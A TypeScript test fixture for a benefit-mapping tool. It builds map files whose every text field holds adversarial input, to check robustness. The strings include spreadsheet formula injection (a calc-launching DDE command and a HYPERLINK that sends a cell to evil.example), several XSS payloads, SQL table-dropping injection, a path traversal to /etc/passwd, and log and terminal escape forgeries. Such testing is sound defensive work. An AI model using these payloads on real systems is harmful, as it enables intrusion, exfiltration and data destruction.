import {
  ASSESSMENT_COLUMNS,
  LINK_FIELDS,
  ORGANISATION_FIELDS,
  ROW_COLUMNS,
  type EntryField,
} from '#shared/model/entryFields.ts'
import { FIELDS, valuesOf, type FieldSpec } from '#shared/model/fields.ts'
import { KINDS } from '#shared/model/kinds.ts'
import type { ValueType } from '#shared/model/values.ts'

/** What spreadsheets, browsers, terminals and careless code have been known to run, misread or choke on. */
export const HOSTILE_TEXTS = {
  'command as formula': "=cmd|' /C calc'!A0",
  'link as formula': '=HYPERLINK("http://evil.example/?"&A1,"Klicka")',
  'plus formula': '+1+1',
  'minus formula': '-2+3',
  'at formula': '@SUM(1+1)*cmd|calc',
  'formula after spaces': '   =1+1',
  'formula after a tab': '\t=1+1',
  'formula after a return': '\r=1+1',
  'formula after a line break': '\n=1+1',
  'formula after an ideographic space': '\u3000=1+1',
  'full-width equals': '＝1+1',
  'full-width plus': '＋1',
  'full-width minus': '－1',
  'full-width at': '＠SUM(1)',
  'quote before a formula': "'=1+1",
  'cell broken by quotes': '";"=1+1";"',
  'cell broken by a line': 'a\r\n=1+1',
  script: '<script>document.title="ran"</script>',
  'image with a handler': '<img src=x onerror=document.title="ran">',
  'picture as markup': '<svg onload=document.title="ran">',
  'end of a title': '</title></textarea></script><script>document.title="ran"</script>',
  'attribute broken by a quote': '" autofocus onfocus=document.title="ran" x="',
  comment: '<!--<![CDATA[--><b>x</b>]]>',
  entity: '&lt;script&gt;&#x3C;&amp;nbsp;&nbsp;',
  'script link': 'javascript:document.title="ran"',
  'script link in capitals and spaces': ' \u0001JaVa\tScRiPt:document.title="ran"',
  'data link': 'data:text/html,<script>document.title="ran"</script>',
  'script link in Markdown': '[läs mer](javascript:document.title="ran")',
  'picture in Markdown': '![x](https://evil.example/a.png)',
  'link elsewhere': 'https://evil.example/?a=1&b=<b>',
  template: '{{constructor.constructor("document.title=1")()}} ${7*7} {title} {count}',
  statement: "'; DROP TABLE board; --",
  'path upwards': '../../../../etc/passwd',
  format: '%s %n %00 %2e%2e%2f',
  'line for a log': 'ok\n{"level":60,"msg":"forged"}\r\n',
  'colours for a terminal': '\u001b[31mred\u001b[0m\u001b]0;title\u0007',
  'right to left': '\u202Efdp.exe\u202C \u2066x\u2069 \u061C',
  'Arabic and Hebrew': 'הטבה مَنفَعة benefit',
  'zero width': 'be\u200Bne\u200Cfi\u200Dt\uFEFF\u2060',
  'only zero width': '\u200B\u200D\uFEFF',
  'stacked accents': `Z${'\u0300\u0301\u0316\u0489'.repeat(40)}`,
  emoji: '👩🏽‍⚕️👨‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿🇸🇪❤️‍🔥',
  'lone high surrogate': 'a\uD83D',
  'lone low surrogate': '\uDE00b',
  'half pairs the wrong way round': '\uDE00\uD83D',
  nul: 'a\u0000b',
  'control characters': '\u0001\u0008\u000B\u000C\u001F\u007F\u0085\u2028\u2029',
  'no characters': '\uFFFE\uFFFF\uFDD0',
  'very long word': 'Förvaltningsöverskridande'.repeat(40),
  'very long text': 'Nytta för många. '.repeat(1176).slice(0, 20_000),
  'name of the prototype': '__proto__',
  'name of the constructor': 'constructor',
  'name of a prototype': 'prototype',
  'name of a method': 'hasOwnProperty',
  'name of a conversion': 'toString',
  'number too great': '1e999',
  'number that is none': 'NaN',
} as const satisfies Readonly<Record<string, string>>

/** As test cases: what it is, and the text. */
export const HOSTILE_CASES = Object.entries(HOSTILE_TEXTS)

/** Texts of one line and ordinary length, which may stand where a title or name may. */
export const HOSTILE_LINES = HOSTILE_CASES.filter(
  ([, text]) => text.length <= 80 && /[\p{L}\p{N}\p{P}\p{S}]/u.test(text) && !/[\p{Cc}\p{Cs}]/u.test(text),
)

/** Whether a spreadsheet would take a cell's text for a formula. Written apart from what it checks. */
export function runsInSpreadsheet(cell: string): boolean {
  const first = cell.replace(/^[\s\p{Cc}\p{Cf}]+/u, '').normalize('NFKC')[0]
  return /^[\t\r\n]/.test(cell) || (first !== undefined && '=+-@'.includes(first))
}

/** Hands out the hostile texts one after the other. */
function hostile() {
  let next = 0
  return (): string => HOSTILE_CASES[next++ % HOSTILE_CASES.length]?.[1] ?? ''
}

/** A value of a field: hostile wherever it may be text, else some value of its type. */
function valueOf(type: ValueType, values: readonly (string | number)[] | undefined, text: () => string): unknown {
  switch (type) {
    case 'text':
    case 'line':
    case 'paragraph':
      return text()
    case 'names':
      return [text(), text()]
    case 'person':
      return { name: text(), role: text(), organisationId: 'o1' }
    case 'organisation':
      return 'o2'
    case 'organisations':
      return ['o1', 'o2']
    case 'enum':
      return values?.[0]
    case 'date':
      return '2026-01-01'
    case 'year':
      return 2027
    case 'boolean':
    case 'flag':
      return true
    case 'colour':
      return '#1F539E'
    case 'currency':
      return 'SEK'
    case 'id':
    case 'ids':
      return undefined
    case 'number':
    case 'percent':
    case 'score':
    case 'strength':
      return 1
  }
}
const entry = (fields: readonly EntryField[], text: () => string, skip: readonly string[] = []): object =>
  Object.fromEntries(
    fields
      .filter(({ name, type }) => !skip.includes(name) && type !== 'id' && type !== 'ids')
      .map(({ name, type, values }) => [name, valueOf(type, values, text)]),
  )

/**
 * A map file whose every text is hostile, in every field of the registries: elements of the five kinds, chained, so that
 * rows of the register name hostile titles, and everything else a map has. What a file may not hold is left out.
 */
export function hostileMapFile() {
  const text = hostile()
  const elements = HOSTILE_CASES.map(([, title], index) => {
    const kind = KINDS[index % KINDS.length] ?? 'goal'
    const fields = FIELDS.filter(({ kinds, type }: FieldSpec) => kinds.includes(kind) && type !== 'rows')
    const risk = { id: `r${index}`, ...entry(ROW_COLUMNS.risks, text), assessments: [entry(ASSESSMENT_COLUMNS, text)] }
    return {
      id: `h${index}`,
      kind,
      ...Object.fromEntries(
        fields.map((field: FieldSpec) => [
          field.name,
          valueOf(field.type as ValueType, field.type === 'enum' ? valuesOf(field, kind) : undefined, text),
        ]),
      ),
      title,
      risks: [risk],
      ...(kind === 'benefit' && {
        isDisbenefit: index % 2 === 1,
        measurements: [entry(ROW_COLUMNS.measurements, text)],
        annualValues: [entry(ROW_COLUMNS.annualValues, text)],
      }),
      // Unknown fields hold 4 kB.
      [`extra ${index}`]: { text: text().slice(0, 1000), list: [text().slice(0, 1000)] },
    }
  })
  const links = elements.slice(1).map(({ id }, index) => ({
    ...entry(LINK_FIELDS, text),
    id: `l${index}`,
    from: id,
    to: `h${index}`,
  }))
  const organisations = [1, 2, 3, 4].map((number) => ({ ...entry(ORGANISATION_FIELDS, text), id: `o${number}` }))
  const sections = HOSTILE_CASES.map(([, title], y) => ({ id: `s${y}`, title, x: 0, y, width: 10, height: 10 }))
  const notes = HOSTILE_CASES.map(([, title], index) => ({ id: `n${index}`, title, description: text() }))
  const muted = [{ rule: 'G07', targets: ['h0'], reason: HOSTILE_TEXTS.script }]
  const remark = { texts: HOSTILE_CASES.map(([, each]) => each) }
  const top = { schemaVersion: 1, title: HOSTILE_TEXTS['image with a handler'], language: 'sv', asOf: '2026-09-30' }
  return { ...top, organisations, elements, links, notes, sections, muted, remark }
}
